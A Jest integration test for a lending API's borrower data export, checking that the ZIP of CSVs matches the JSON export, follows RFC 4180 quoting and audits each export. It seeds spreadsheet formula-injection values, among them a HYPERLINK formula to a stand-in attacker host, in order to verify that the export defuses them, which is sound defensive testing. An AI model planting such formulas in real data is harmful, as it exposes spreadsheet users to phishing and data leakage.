import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { strFromU8, unzipSync } from 'fflate';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { parseCsv } from '../../src/reports/csv.js';
import { createTestApp, type TestApp } from '../support/app.js';
import { monoEnv, startTestSandbox, type SandboxServer } from '../support/mono-kit.js';
import { apply, linkPersonaBorrower, waitForStatus, type LinkedBorrower } from './applications.kit.js';

/**
 * GET /v1/borrowers/{id}/export as a ZIP of CSVs (docs/privacy.md "Access"), over real HTTP against the sandbox:
 * what is in the archive, that it says the same as the JSON export, and that the CSVs are safe to open in a spreadsheet.
 */
const FILES = [
  'README.txt',
  'profile.csv',
  'consents.csv',
  'accounts.csv',
  'transactions.csv',
  'decisions.csv',
  'applications.csv',
  'loans.csv',
  'loan-instalments.csv',
  'loan-repayments.csv',
  'income-checks.csv',
  'shadow-decisions.csv',
  'audit.csv',
  'export.json',
];

/** CSV file → JSON section (and its key in `counts`). */
const SECTIONS = {
  'consents.csv': 'consents',
  'accounts.csv': 'accounts',
  'transactions.csv': 'transactions',
  'decisions.csv': 'decisions',
  'applications.csv': 'applications',
  'loans.csv': 'loans',
  'income-checks.csv': 'incomeChecks',
  'shadow-decisions.csv': 'shadowDecisions',
  'audit.csv': 'audit',
} as const;

type Doc = Record<string, unknown> & { counts: Record<string, number>; loans: Array<{ instalments: unknown[]; repayments: unknown[] }> };
const DAY = 86_400_000;

describe('borrower export as a ZIP (HTTP, sandbox Mono)', () => {
  let sandbox: SandboxServer;
  let t: TestApp;
  let ds: DataSource;
  let b: LinkedBorrower;
  const token = `ZX${Date.now().toString(36).toUpperCase()}`;
  // Quotes, a comma and a line break: RFC 4180 quoting has to carry it through unchanged.
  const narration = `NIP/FROM ${token} "ADE, OLA"/RENT\nPART 2`;
  const amount = 1_234_567;
  const formula = `=HYPERLINK("https://evil.example/${token}","open")`;
  const purpose = `@SUM(${token})`;
  const reference = `+RPY-${token}`;

  const exportUrl = (query = '') => `${t.url}/v1/borrowers/${b.borrowerId}/export${query}`;
  const get = (query = '', headers: Record<string, string> = {}) =>
    fetch(exportUrl(query), { headers: { ...t.auth('admin'), ...headers } });
  const unzip = async (res: Response): Promise<Record<string, string>> => {
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    return Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]));
  };

  beforeAll(async () => {
    sandbox = await startTestSandbox();
    t = await createTestApp(monoEnv(sandbox), { listen: true });
    sandbox.setWebhookTarget(`${t.url}/webhooks/mono`);
    ds = t.app.get(DataSource);
    const transactions = Array.from({ length: 120 }, (_, i) => {
      const date = new Date(Date.now() - (i + 2) * DAY).toISOString();
      return i % 30 === 5
        ? { id: `zx-sal-${i}`, narration: `NIP/ACME LTD/SALARY`, amount: 35_000_000, type: 'credit', date }
        : { id: `zx-pos-${i}`, narration: `POS PURCHASE SHOPRITE LEKKI`, amount: 400_000 + i, type: 'debit', date };
    });
    transactions.push(
      { id: 'zx-seeded', narration, amount, type: 'credit', date: new Date(Date.now() - 3 * DAY).toISOString() },
      { id: 'zx-formula', narration: formula, amount: 5_000, type: 'debit', date: new Date(Date.now() - 4 * DAY).toISOString() },
    );
    b = await linkPersonaBorrower(t, sandbox, 'salaried_monthly', {
      matchName: true,
      sandboxAccount: {
        account: {
          name: 'CHIDỊMMA NWOSU',
          account_number: `7${String(Date.now()).slice(-9)}`,
          currency: 'NGN',
          type: 'SAVINGS_ACCOUNT',
          balance: 50_000_000,
        },
        transactions,
      },
    });
    await waitForStatus(t, await apply(t, b.borrowerId, { amount: 5_000_000, purpose }), ['decided', 'failed']);
    const loan = await request(t.url)
      .post('/v1/loans')
      .set(t.auth('frontend'))
      .set('Idempotency-Key', `zx-loan-${token}`)
      .send({
        borrowerId: b.borrowerId,
        principalMinor: 3_000_000,
        currency: 'NGN',
        disbursedAt: new Date(Date.now() - 3_600_000).toISOString(),
        tenorMonths: 3,
      })
      .expect(201);
    await request(t.url)
      .post(`/v1/loans/${loan.body.id as string}/repayments`)
      .set(t.auth('frontend'))
      .send({ amountMinor: 250_000, paidAt: new Date().toISOString(), reference })
      .expect(201);
  });

  afterAll(async () => {
    sandbox?.setWebhookTarget(null);
    await t?.close();
    await sandbox?.close();
  });

  it('should answer the ZIP with one CSV per section, export.json and a README, saying the same as the JSON export', async () => {
    const before = (await (await get()).json()) as Doc;
    const res = await get('?format=zip');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/zip');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="borrower-${b.borrowerId}-export.zip"`);
    expect(res.headers.get('cache-control')).toBe('no-store');
    // Streamed, not buffered: no length known up front.
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    const files = await unzip(res);
    expect(Object.keys(files)).toEqual(FILES);

    // export.json is the JSON document; read after the JSON export, its audit trail has that export's entry too.
    const doc = JSON.parse(files['export.json']) as Doc;
    const { generatedAt: _a, audit: auditNow, counts, ...rest } = doc;
    const { generatedAt: _b, audit: auditBefore, counts: countsBefore, ...restBefore } = before;
    expect(rest).toEqual(restBefore);
    expect(counts).toEqual({ ...countsBefore, audit: countsBefore.audit + 1 });
    expect(auditNow).toEqual([
      ...(auditBefore as unknown[]),
      expect.objectContaining({ action: 'borrower.exported', entity_id: b.borrowerId }),
    ]);
    expect(counts).toMatchObject({ accounts: 1, consents: 2, loans: 1, applications: 1 });
    expect(counts.transactions).toBeGreaterThan(100);

    // A header row on every CSV naming every JSON field of its section; as many rows as the JSON has.
    const csv = Object.fromEntries(FILES.filter((f) => f.endsWith('.csv')).map((f) => [f, parseCsv(files[f])]));
    const [profileHeader, ...profileRows] = csv['profile.csv'];
    expect(profileHeader).toEqual(['id', 'externalId', 'fullName', 'email', 'phone', 'bvn', 'createdAt']);
    expect(profileRows).toEqual([profileHeader.map((k) => (doc.borrower as Record<string, string | null>)[k] ?? '')]);
    expect(profileRows[0][2]).toBe('CHIDỊMMA NWOSU');
    for (const [file, section] of Object.entries(SECTIONS)) {
      const [header, ...rows] = csv[file];
      const items = doc[section] as Array<Record<string, unknown>>;
      expect({ file, rows: rows.length }).toEqual({ file, rows: counts[section] });
      for (const item of items)
        expect(header).toEqual(expect.arrayContaining(Object.keys(item).filter((k) => k !== 'instalments' && k !== 'repayments')));
    }
    expect(csv['transactions.csv'][0]).toEqual(expect.arrayContaining(['amount_minor', 'currency', 'narration', 'posted_at']));
    expect(csv['audit.csv'][0]).toEqual(['created_at', 'actor', 'action', 'entity_type', 'entity_id', 'reason']);
    expect(csv['loan-instalments.csv']).toHaveLength(1 + doc.loans[0].instalments.length);
    expect(csv['loan-instalments.csv'][0]).toEqual([
      'loan_id',
      'seq',
      'dueDate',
      'principalMinor',
      'interestMinor',
      'paidPrincipalMinor',
      'paidInterestMinor',
      'currency',
    ]);
    expect(csv['loan-repayments.csv']).toHaveLength(1 + doc.loans[0].repayments.length);
    for (const f of FILES.filter((x) => x.endsWith('.csv'))) expect(files[f]).toMatch(/^[^\r\n]+\r\n/);
    expect(files['README.txt']).toMatch(new RegExp(`transactions\\.csv +${counts.transactions} rows: `));
  });

  it('should carry a seeded transaction once, exactly as stored, with its amount in kobo, and defuse formulas', async () => {
    const files = await unzip(await get('?format=zip'));
    const [stored] = await ds.query<Array<{ narration: string; amount_minor: string; currency: string }>>(
      `SELECT narration, amount_minor::text, currency FROM bank_transactions WHERE account_id = $1 AND provider_txn_id = 'zx-seeded'`,
      [b.accountId],
    );
    expect(stored).toEqual({ narration, amount_minor: String(amount), currency: 'NGN' });
    const [header, ...rows] = parseCsv(files['transactions.csv']);
    const col = (name: string) => header.indexOf(name);
    const seeded = rows.filter((r) => r[col('narration')] === narration);
    expect(seeded).toHaveLength(1);
    expect(seeded[0][col('amount_minor')]).toBe(String(amount));
    expect(seeded[0][col('currency')]).toBe('NGN');
    expect(seeded[0][col('provider_txn_id')]).toBe('zx-seeded');
    // The narration's RFC 4180 form occurs once in the file (quotes doubled, the whole field quoted).
    expect(files['transactions.csv'].split(`"NIP/FROM ${token} ""ADE, OLA""/RENT\nPART 2"`)).toHaveLength(2);

    // Spreadsheet formulas: prefixed with ' in the CSVs, unchanged in export.json.
    const formulaRow = rows.find((r) => r[col('provider_txn_id')] === 'zx-formula')!;
    expect(formulaRow[col('narration')]).toBe(`'${formula}`);
    expect(files['transactions.csv']).not.toMatch(/(^|,)=HYPERLINK/m);
    const apps = parseCsv(files['applications.csv']);
    expect(apps[1][apps[0].indexOf('purpose')]).toBe(`'${purpose}`);
    const repayments = parseCsv(files['loan-repayments.csv']);
    expect(repayments[1][repayments[0].indexOf('reference')]).toBe(`'${reference}`);
    expect(repayments[1][repayments[0].indexOf('amountMinor')]).toBe('250000');
    const doc = JSON.parse(files['export.json']) as {
      transactions: Array<{ narration: string }>;
      applications: Array<{ purpose: string }>;
    };
    expect(doc.transactions.filter((x) => x.narration === formula)).toHaveLength(1);
    expect(doc.applications[0].purpose).toBe(purpose);
  });

  it('should negotiate the format, default to JSON, refuse an unknown one and audit each export with its format', async () => {
    const viaAccept = await get('', { accept: 'application/zip' });
    expect(viaAccept.headers.get('content-type')).toBe('application/zip');
    expect(Object.keys(await unzip(viaAccept))).toEqual(FILES);
    const explicitJson = await get('?format=json', { accept: 'application/zip' });
    expect(explicitJson.headers.get('content-type')).toMatch(/^application\/json/);
    expect(((await explicitJson.json()) as Doc).format).toBe('borrower-export/v1');
    const byDefault = await get('', { accept: '*/*' });
    expect(byDefault.headers.get('content-type')).toMatch(/^application\/json/);
    await byDefault.arrayBuffer();

    const bad = await get('?format=xlsx');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toEqual({
      statusCode: 400,
      code: 'VALIDATION_FAILED',
      message: 'Invalid request: format',
      details: { fields: [{ field: 'format', errors: ['format must be one of json, zip'] }] },
    });
    expect((await get('?format=zip&format=json')).status).toBe(400);
    expect((await fetch(exportUrl('?format=zip'), { headers: t.auth('frontend') })).status).toBe(403);

    const audit = await ds.query<Array<{ actor: string; after: { counts: Record<string, number>; format: string } }>>(
      `SELECT actor, after FROM audit_log WHERE action = 'borrower.exported' AND entity_id = $1 ORDER BY created_at, id`,
      [b.borrowerId],
    );
    // json, zip, zip (previous tests), then zip (Accept), json, json (this one); the refused ones are not exports.
    expect(audit.map((a) => a.after.format)).toEqual(['json', 'zip', 'zip', 'zip', 'json', 'json']);
    expect(audit.every((a) => /^api-key:/.test(a.actor) && a.after.counts.transactions > 100)).toBe(true);
  });

  it('should document both media types and the format parameter in the OpenAPI document', async () => {
    const openapi = (await (await fetch(`${t.url}/docs/openapi.json`)).json()) as {
      paths: Record<
        string,
        {
          get: {
            parameters: Array<{ name: string; in: string; schema: { enum?: string[] } }>;
            responses: Record<string, { content: Record<string, unknown> }>;
          };
        }
      >;
    };
    const op = openapi.paths['/v1/borrowers/{id}/export'].get;
    expect(op.parameters).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ name: 'format', in: 'query', schema: expect.objectContaining({ enum: ['json', 'zip'] }) }),
      ]),
    );
    expect(Object.keys(op.responses['200'].content).sort()).toEqual(['application/json', 'application/zip']);
  });
});
